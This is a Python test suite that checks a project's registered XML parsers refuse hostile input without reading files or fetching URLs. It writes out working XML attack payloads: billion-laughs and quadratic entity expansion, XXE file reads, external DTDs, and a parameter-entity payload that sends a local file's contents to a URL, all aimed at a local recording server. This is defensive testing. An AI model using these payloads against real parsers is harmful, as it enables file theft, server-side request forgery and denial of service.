"""Every hostile XML document, against every XML parser the project registers: each is refused
with XMLRejected, no file's content leaks, no URL is fetched, and none runs away.

The parsers are found by importing every module under `connectors`, so an endpoint that
registers its parser with `connectors.safe_xml.xml_parser` (the Web Connector's) is attacked
here without touching this file.
"""

from __future__ import annotations

import importlib
import pkgutil
import threading
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

import connectors
from connectors.safe_xml import MAX_DEPTH, XML_PARSERS, XMLParser, XMLRejected, parse_xml

# Far longer than refusing any of these documents takes; a bomb that went off would run for
# minutes and gigabytes, so this bounds the test, not the parser's speed.
RUNAWAY_SECONDS = 30
MARKER = "TIMESYNC-SECRET-MARKER-7f3a"


def _registered_parsers() -> list[XMLParser]:
    for module in pkgutil.walk_packages(connectors.__path__, "connectors."):
        importlib.import_module(module.name)
    return sorted(XML_PARSERS.values(), key=lambda parser: parser.name)


PARSERS = _registered_parsers()


class _Recorder(BaseHTTPRequestHandler):
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        body = b'<!ENTITY leak "fetched">'
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server that records every request made to it."""
    hits: list[str] = []
    handler = type("Handler", (_Recorder,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(MARKER)
    return path


def hostile_documents(url: str, secret: Path, parser: XMLParser) -> dict[str, bytes]:
    lol = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    big = "x" * 50_000
    return {
        "billion laughs": (
            f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{lol}]>'
            "<lolz>&lol9;</lolz>"
        ).encode(),
        "quadratic blowup": (
            f'<!DOCTYPE kaboom [<!ENTITY a "{big}">]><kaboom>{"&a;" * 50_000}</kaboom>'
        ).encode(),
        "external entity reading a file": (
            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{secret}">]><r>&xxe;</r>'
        ).encode(),
        "external entity fetching a URL": (
            f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{url}/entity">]><r>&xxe;</r>'
        ).encode(),
        "external DTD": f'<!DOCTYPE r SYSTEM "{url}/evil.dtd"><r>&leak;</r>'.encode(),
        "public external DTD": (
            f'<!DOCTYPE r PUBLIC "-//EVIL//DTD//EN" "{url}/public.dtd"><r/>'
        ).encode(),
        "parameter entity fetching a URL": (
            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/param.dtd"> %p;]><r>&leak;</r>'
        ).encode(),
        "parameter entity exfiltrating a file": (
            f'<!DOCTYPE r [<!ENTITY % file SYSTEM "file://{secret}">'
            f'<!ENTITY % send SYSTEM "{url}/?%file;"> %send;]><r/>'
        ).encode(),
        "unparsed entity": (
            f'<!DOCTYPE r [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "{url}/u" NDATA n>]>'
            '<r a="u"/>'
        ).encode(),
        "XInclude": (
            f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{secret}"'
            ' parse="text"/></r>'
        ).encode(),
        "deep nesting": b"<a>" * 10_000 + b"</a>" * 10_000,
        "oversized body": b"<r>" + b"x" * parser.max_bytes + b"</r>",
        "malformed": b"<r><unclosed></r>",
        "empty": b"",
        "two roots": b"<a/><b/>",
    }


# XInclude is inert in ElementTree unless ElementInclude is called, which the project never
# does; the document is ordinary XML, so it parses, and what matters is that nothing is read.
PARSED_BUT_INERT = {"XInclude"}
DOCUMENTS = list(hostile_documents("http://127.0.0.1:1", Path("/x"), PARSERS[0]))


def _within_runaway_bound(call: Callable[[], object]) -> object:
    """Runs `call` in a thread; its outcome (a value or the exception raised), or a failure if
    it is still running after RUNAWAY_SECONDS."""
    outcome: list[object] = []

    def run() -> None:
        try:
            outcome.append(call())
        except Exception as error:  # handed back to the test, which judges it
            outcome.append(error)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(RUNAWAY_SECONDS)
    if thread.is_alive():
        pytest.fail(f"still parsing after {RUNAWAY_SECONDS} s")
    return outcome[0]


def test_the_listener_records_a_fetch(listener):
    """So that its silence below means no fetch, not a deaf listener."""
    url, hits = listener
    with urllib.request.urlopen(f"{url}/probe", timeout=5) as response:  # noqa: S310 - local
        response.read()
    assert hits == ["/probe"]


def test_the_project_registers_its_xml_parsers():
    assert "parse_xml" in XML_PARSERS


@pytest.mark.parametrize("parser", PARSERS, ids=lambda parser: parser.name)
@pytest.mark.parametrize("document", DOCUMENTS)
def test_every_parser_refuses_every_hostile_document_without_reading_or_fetching(
    parser, document, listener, secret_file
):
    url, hits = listener
    data = hostile_documents(url, secret_file, parser)[document]
    outcome = _within_runaway_bound(lambda: parser.parse(data))
    if document in PARSED_BUT_INERT:
        assert not isinstance(outcome, Exception), outcome
        assert MARKER not in _all_text(outcome)
    else:
        assert isinstance(outcome, XMLRejected), outcome
        assert MARKER not in str(outcome)
    assert hits == []


def _all_text(element) -> str:
    return "".join(element.itertext()) + "".join(
        value for node in element.iter() for value in node.attrib.values()
    )


def test_a_plain_qbxml_request_parses():
    data = (
        b'<?xml version="1.0" encoding="utf-8"?><?qbxml version="13.0"?>'
        b'<QBXML><QBXMLMsgsRq onError="stopOnError"><EmployeeQueryRq requestID="1">'
        b"<ActiveStatus>ActiveOnly</ActiveStatus></EmployeeQueryRq></QBXMLMsgsRq></QBXML>"
    )
    root = parse_xml(data, max_bytes=len(data))
    assert root.tag == "QBXML"
    assert root.find("QBXMLMsgsRq/EmployeeQueryRq").get("requestID") == "1"


def test_a_document_of_exactly_the_bound_parses_and_one_byte_more_is_refused():
    data = b"<r>" + b"x" * 93 + b"</r>"
    assert parse_xml(data, max_bytes=100).text == "x" * 93
    with pytest.raises(XMLRejected, match="larger than 99 bytes"):
        parse_xml(data, max_bytes=99)


def test_nesting_up_to_the_limit_parses_and_one_level_more_is_refused():
    def nested(levels: int) -> bytes:
        return b"<a>" * levels + b"</a>" * levels

    assert parse_xml(nested(MAX_DEPTH), max_bytes=10_000).tag == "a"
    with pytest.raises(XMLRejected, match="nested deeper"):
        parse_xml(nested(MAX_DEPTH + 1), max_bytes=10_000)


def test_a_refusal_says_why_without_quoting_the_document():
    with pytest.raises(XMLRejected) as refused:
        parse_xml(f'<!DOCTYPE r [<!ENTITY s "{MARKER}">]><r>&s;</r>'.encode(), max_bytes=1000)
    assert refused.value.reason == "a document type declaration (DTD) is not accepted"
    assert MARKER not in str(refused.value)
